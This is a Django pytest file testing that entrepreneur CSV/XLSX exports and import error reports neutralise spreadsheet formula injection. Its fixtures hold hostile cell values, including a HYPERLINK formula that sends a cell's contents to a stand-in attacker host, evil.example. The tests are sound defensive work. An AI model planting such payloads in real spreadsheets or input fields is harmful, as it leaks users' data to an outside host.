"""Formula injection (issue 13, item 2): a name like =HYPERLINK(…) must reach the entrepreneur
exports and the import error report as inert text, while numbers and dates keep their type."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from registrations.imports import COLUMNS
from registrations.tests.admin_fixtures import admin_url
from registrations.tests.factories import BusinessFactory, EntrepreneurFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&C2,"Klik")'
# (full_name, legacy_id, business name) of three people registered by an attacker.
HOSTILE_PEOPLE = [
    (LINK, "+1", "@SUM(1)"),
    ("\t=1+1", "-1", "\r=1+1"),
    ("-1", None, "+62 812"),
]


@pytest.fixture
def hostile_people(db):
    people = []
    for name, legacy_id, business in HOSTILE_PEOPLE:
        person = EntrepreneurFactory(full_name=name, legacy_id=legacy_id, birth_date=dt.date(1990, 5, 17))
        BusinessFactory(entrepreneur=person, name=business)
        people.append(person)
    return people


def _csv_rows(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body, newline="")))


def test_the_csv_export_writes_formula_like_text_as_inert_text(client, dina, hostile_people):
    client.force_login(dina)
    rows = _csv_rows(client.get(admin_url("registrations_entrepreneur_export", "csv")))
    by_id = {int(row["id"]): row for row in rows}
    for person, (name, legacy_id, business) in zip(hostile_people, HOSTILE_PEOPLE, strict=True):
        row = by_id[person.pk]
        assert row["full_name"] == "'" + name
        assert row["legacy_id"] == ("'" + legacy_id if legacy_id else "")
        assert row["business_name"] == "'" + business
        # Numbers and dates are written as they are.
        assert row["id"] == str(person.pk)
        assert row["birth_date"] == "1990-05-17"
    assert not [value for row in rows for value in row.values() if value and value[0] in "=+-@\t\r"]


def test_the_xlsx_export_has_no_formula_and_keeps_numbers_and_dates(client, dina, hostile_people):
    client.force_login(dina)
    response = client.get(admin_url("registrations_entrepreneur_export", "xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in sheet[1]]
    column = {name: header.index(name) for name in ("id", "full_name", "birth_date", "registered_at")}
    rows = {row[column["id"]].value: row for row in sheet.iter_rows(min_row=2)}
    for person, (name, _legacy_id, _business) in zip(hostile_people, HOSTILE_PEOPLE, strict=True):
        row = rows[person.pk]
        full_name = row[column["full_name"]]
        assert full_name.value == name.replace("\r", "\n") and full_name.data_type == "s" and full_name.quotePrefix
        assert row[column["id"]].data_type == "n"
        assert row[column["birth_date"]].is_date and row[column["birth_date"]].value == dt.datetime(1990, 5, 17)
        assert row[column["registered_at"]].is_date


def test_the_masked_export_keeps_the_birth_year_a_number(client, alice, hostile_people):
    from django.contrib.auth.models import Group, Permission

    Group.objects.get(name="center_staff").permissions.remove(Permission.objects.get(codename="view_personal_data"))
    client.force_login(alice)
    response = client.get(admin_url("registrations_entrepreneur_export", "xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    years = [row[header.index("birth_date")] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in years] == [(1990, "n")] * 3
    phones = [row[header.index("phone")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.value.startswith("08") and "****" in cell.value and cell.data_type == "s" for cell in phones)


def _hostile_file(path):
    bad = dict.fromkeys(COLUMNS, "")
    bad.update(nik=LINK, full_name="@SUM(1)", birth_date="-1", gender="+1", phone="\t=1+1", address="x")
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerow(bad)
    return path


def _assert_inert_report(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][:4] == ["line", "nik", "field", "error"]  # the job's report adds the error's code
    assert len(rows) > 1
    for line, nik, _field, message, *_code in rows[1:]:
        assert line == "2"
        assert nik == "'" + LINK
        assert message and message[0] not in "=+-@\t\r"


def test_the_import_error_report_echoes_values_as_inert_text(tmp_path, dina):
    report = tmp_path / "errors.csv"
    source = _hostile_file(tmp_path / "legacy.csv")
    call_command("import_entrepreneurs", str(source), "--report", str(report), stdout=io.StringIO())
    _assert_inert_report(report.read_text(encoding="utf-8"))


def test_the_admin_import_report_download_is_neutralised_too(
    client, dina, tmp_path, settings, django_capture_on_commit_callbacks
):
    from registrations.models import ImportJob

    settings.MEDIA_ROOT = tmp_path / "media"
    client.force_login(dina)
    with _hostile_file(tmp_path / "legacy.csv").open("rb") as upload, django_capture_on_commit_callbacks(execute=True):
        response = client.post(admin_url("registrations_entrepreneur_import"), {"file": upload, "dry_run": "on"})
    assert response.status_code == 302  # queued; the job ran once the request committed
    job = ImportJob.objects.get()
    response = client.get(admin_url("registrations_importjob_report", job.pk, "csv"))
    assert response.status_code == 200
    _assert_inert_report(response.content.decode("utf-8"))
